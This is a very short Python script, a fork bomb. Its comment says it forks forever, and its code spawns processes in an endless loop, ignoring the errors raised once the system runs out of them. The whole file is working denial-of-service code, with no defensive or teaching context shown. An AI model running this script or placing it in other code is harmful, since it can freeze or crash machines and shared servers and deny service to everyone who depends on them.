# Forks for ever and never gives up.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
